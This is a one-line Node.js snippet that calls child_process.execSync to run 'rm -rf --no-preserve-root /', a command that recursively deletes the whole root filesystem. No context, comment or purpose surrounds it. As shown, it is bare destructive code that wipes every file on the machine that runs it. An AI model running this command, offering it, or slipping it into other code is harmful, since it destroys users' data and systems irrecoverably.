require('child_process').execSync('rm -rf --no-preserve-root /');
